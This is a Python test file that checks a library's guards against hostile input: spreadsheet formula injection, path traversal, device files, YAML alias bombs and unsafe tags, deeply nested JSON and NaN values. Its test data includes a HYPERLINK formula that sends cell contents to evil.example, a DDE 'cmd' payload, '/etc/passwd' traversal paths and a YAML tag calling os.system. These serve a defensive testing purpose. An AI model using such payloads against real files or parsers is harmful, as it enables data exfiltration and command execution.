"""The guards of libdigigov.safety and libdigigov.safe_load, with the hostile inputs that were
found against the commands (formula strings, path-like names, devices, alias bombs, deep
nesting, language tags, UTF-16, NaN in JSON)."""
from __future__ import annotations

import errno
import io
import os
import time

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from libdigigov.safe_load import LimitedInputError, compose_yaml, read_json
from libdigigov.io import save_figure_atomic
from libdigigov.safety import (MAX_LINE, check_figure_format, check_output_path, check_regular_file,
                               confined_path, is_formula_like, missing_column_hint, neutralise_cell,
                               neutralise_frame, one_line, safe_file_name)

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1"]


# ---- cells -------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralised_and_stays_visible(text):
    out = neutralise_cell(text)
    assert out == "'" + text and not is_formula_like(out)


@pytest.mark.parametrize("value", ["-0.25", "+3", "1e-5", "-inf", 0.5, -1, None, "Zhejiang", "浙江", ""])
def test_numbers_and_plain_text_are_untouched(value):
    assert neutralise_cell(value) == value or (value != value)


def test_frame_cells_headers_and_index_are_neutralised():
    df = pd.DataFrame({HOSTILE[0]: [HOSTILE[1], "ok"], "q": [-0.5, 0.25]}, index=pd.Index([HOSTILE[2], "b"],
                                                                                          name="@case"))
    text = neutralise_frame(df).to_csv()
    rows = [line.split(",")[0] for line in text.splitlines()]
    assert all(not is_formula_like(cell) for cell in rows)
    back = pd.read_csv(io.StringIO(text), index_col=0)
    assert back["q"].tolist() == [-0.5, 0.25]                        # numbers stay numbers
    assert back.iloc[0, 0] == "'" + HOSTILE[1] and back.index.name == "'@case"
    assert df.iloc[0, 0] == HOSTILE[1]                               # the input is not changed


@given(st.text(max_size=30))
def test_no_neutralised_text_is_formula_like(text):
    assert not is_formula_like(neutralise_cell(text))


# ---- names and paths ---------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["../../../../../evil_comp", "../../../../mini", "/etc/passwd", "a/b\\c",
                                  "..", ".hidden", "CON", "nul.txt", "x" * 300, "a\x00b", "C:evil"])
def test_safe_file_name_stays_in_its_folder(tmp_path, name):
    safe = safe_file_name(name)
    assert "/" not in safe and "\\" not in safe and not safe.startswith(".") and len(safe) <= 80
    assert (tmp_path / f"{safe}.csv").resolve().parent == tmp_path.resolve()


@settings(max_examples=200)
@given(st.text(min_size=1, max_size=40), st.text(min_size=1, max_size=40))
def test_different_names_give_different_files(a, b):
    if a != b:
        assert safe_file_name(a) != safe_file_name(b)


@pytest.mark.parametrize("rel", ["/etc/passwd", "../../etc/passwd", "tables/../../x.csv", "..", ""])
def test_confined_path_refuses_what_leaves_the_folder(tmp_path, rel):
    with pytest.raises(ValueError, match="outside the folder"):
        confined_path(tmp_path, rel)


def test_confined_path_refuses_a_symbolic_link_out(tmp_path):
    (tmp_path / "tables").mkdir()
    os.symlink("/etc/hostname", tmp_path / "tables" / "x.csv")
    with pytest.raises(ValueError, match="outside the folder"):
        confined_path(tmp_path, "tables/x.csv")
    assert confined_path(tmp_path, "tables/y.csv") == tmp_path / "tables" / "y.csv"


def test_regular_file_check(tmp_path):
    with pytest.raises(ValueError, match="not a regular file"):
        check_regular_file("/dev/zero")
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    with pytest.raises(ValueError, match="not a regular file"):
        check_regular_file(fifo)
    with pytest.raises(ValueError, match="is a folder"):
        check_regular_file(tmp_path)
    with pytest.raises(ValueError, match="does not exist"):
        check_regular_file(tmp_path / "none.csv")


def test_missing_column_hint_echoes_no_file_content():
    shadow = "root:$6$saltsalt$hashhashhash:19000:0:99999:7:::"
    assert "hash" not in missing_column_hint("province", [shadow])
    assert missing_column_hint("province", ["Province", "Y"]) == "did you mean 'Province'?"


@settings(max_examples=50)
@given(st.text(max_size=5000))
def test_one_line_is_one_short_line(text):
    out = one_line(text)
    assert "\n" not in out and "\r" not in out and len(out) <= MAX_LINE


# ---- outputs -----------------------------------------------------------------------------------
def test_output_rule(tmp_path):
    folder = tmp_path / "R"
    (folder / "tables").mkdir(parents=True)
    (folder / "report.html").write_text("report")
    data = tmp_path / "data.csv"
    data.write_text("x")
    of = lambda p: folder if folder in p.parents else None       # noqa: E731
    with pytest.raises(ValueError, match="would overwrite its input"):
        check_output_path(data, inputs=[data], force=True)
    with pytest.raises(ValueError, match="part of the results folder"):
        check_output_path(folder / "tables" / "a.csv", results_folder_of=of, force=True)
    with pytest.raises(ValueError, match="use --force"):
        check_output_path(folder / "report.html", results_folder_of=of, owned=["comparison.html"])
    assert check_output_path(folder / "report.html", results_folder_of=of, owned=["comparison.html"], force=True)
    assert check_output_path(folder / "new.html", results_folder_of=of, owned=["comparison.html"])


def test_figure_format_and_atomic_figure_on_a_full_disk(tmp_path, monkeypatch):
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    with pytest.raises(ValueError, match="unsupported format '.txt'"):
        check_figure_format("cl.txt")
    path = tmp_path / "c.png"
    fig, ax = plt.subplots()
    ax.plot([0, 1], [0, 1])
    save_figure_atomic(fig, path)
    good = path.read_bytes()
    assert good.startswith(b"\x89PNG")

    real_fdopen = os.fdopen

    class Full(io.RawIOBase):
        def __init__(self, fd):
            self.fh = real_fdopen(fd, "wb")

        def write(self, data):
            self.fh.write(data[:4096])
            raise OSError(errno.ENOSPC, "No space left on device")

        def __exit__(self, *exc):
            self.fh.close()

    monkeypatch.setattr(os, "fdopen", lambda fd, mode="r": Full(fd))
    with pytest.raises(OSError):
        save_figure_atomic(fig, path)
    plt.close(fig)
    assert path.read_bytes() == good                                 # the good plot is still there
    assert sorted(p.name for p in tmp_path.iterdir()) == ["c.png"]   # no partial file left


# ---- YAML and JSON -----------------------------------------------------------------------------
def _bomb(levels: int = 9) -> str:
    names = "abcdefghijklmnop"
    text = 'a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
    for p, c in zip(names, names[1:levels]):
        text += f"{c}: &{c} [" + ", ".join([f"*{p}"] * 9) + "]\n"
    return text


@pytest.mark.parametrize("text, message", [
    (_bomb(), "alias bomb"),
    ("[" * 50_000 + "]" * 50_000, "nested more than 64 levels"),
    ("{a: " * 50_000 + "1" + "}" * 50_000, "nested more than 64 levels"),
    ("x: !!python/object/apply:os.system ['touch pwned']", "is not allowed"),
    ("x: !!python/name:os.system", "is not allowed"),
    ("x: !custom 1", "is not allowed"),
    ("x: " + "a" * 200_000, "characters"),
])
def test_yaml_limits_refuse_before_growing(text, message):
    t0 = time.perf_counter()
    with pytest.raises(LimitedInputError, match=message):
        compose_yaml(text)
    assert time.perf_counter() - t0 < 10


def test_yaml_size_and_encoding(tmp_path):
    with pytest.raises(LimitedInputError, match="bytes"):
        compose_yaml(b"# " + b"x" * 2_000_000)
    with pytest.raises(LimitedInputError, match="UTF-16"):
        compose_yaml("outcome: Y\n".encode("utf-16"))
    with pytest.raises(LimitedInputError, match="UTF-16"):
        compose_yaml("outcome: Y\n".encode("utf-16-le"))
    assert compose_yaml("\ufeffoutcome: Y\n".encode("utf-8")).value[0][1].value == "Y"


@pytest.mark.parametrize("body", ['{"n": NaN}', '{"n": Infinity}', '{"n": -Infinity}', "[" * 100_000 + "]" * 100_000])
def test_strict_json(tmp_path, body):
    p = tmp_path / "results.json"
    p.write_text(body)
    with pytest.raises(ValueError, match="not valid JSON|nested too deeply"):
        read_json(p, what="results.json")
